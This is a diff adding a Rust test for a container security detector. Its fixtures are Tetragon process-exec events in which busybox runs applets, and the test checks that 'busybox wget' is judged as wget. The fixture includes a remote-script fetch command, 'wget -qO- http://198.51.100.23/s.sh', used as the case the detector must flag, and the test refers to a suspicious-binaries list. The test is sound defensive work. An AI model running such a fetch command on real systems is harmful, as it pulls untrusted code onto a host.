@@ -452,6 +452,43 @@ fn busybox_applets_are_judged_as_the_program_they_run() {
         "{:?}",
         run.reasons
     );
+    // Tetragon: the binary, and the arguments after argv[0]. `busybox ls` is ls,
+    // `busybox wget` is wget.
+    let pod = json!({"namespace":"apps","name":POD,"container":{"id":format!("containerd://{CID}"),"name":"worker",
+        "image":{"id":"docker.io/kitty0x/toolbox@sha256:5f3a2b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a","name":format!("docker.io/{IMAGE}")},
+        "start_time":iso_ms(3_000),"pid":1}});
+    let exec = |ms: i64, pid: u32, args: &str| {
+        json!({"process_exec":{"process":{"exec_id":format!("e{pid}"),"pid":pid,"uid":0,"cwd":"/","binary":"/bin/busybox",
+            "arguments":args,"flags":"execve","start_time":iso_ms(ms),"pod":pod},"parent":{"pid":1}},
+            "node_name":NODE,"time":iso_ms(ms)})
+    };
+    let quiet = d.jsonl(
+        "tetragon-quiet.jsonl",
+        &[exec(20_000, 40, "ls /"), exec(21_000, 41, "cat /etc/hosts")],
+    );
+    let run = scan(&[], &[&quiet]);
+    assert_eq!(run.alerts, Vec::<String>::new(), "{}", run.stderr);
+    let loud = d.jsonl(
+        "tetragon.jsonl",
+        &[
+            exec(20_000, 40, "ls /"),
+            exec(30_000, 42, "wget -qO- http://198.51.100.23/s.sh"),
+        ],
+    );
+    let run = scan(&[], &[&loud]);
+    assert_eq!(run.alerts.len(), 1, "{}", run.stderr);
+    assert!(
+        run.alerts[0].ends_with("[activity@tetragon.jsonl:2]"),
+        "{:?}",
+        run.alerts
+    );
+    assert!(
+        run.reasons[0]
+            .iter()
+            .any(|r| r.starts_with("ran /bin/busybox as 'wget' ('wget' in suspicious_binaries)")),
+        "{:?}",
+        run.reasons
+    );
 }
 
 #[test]
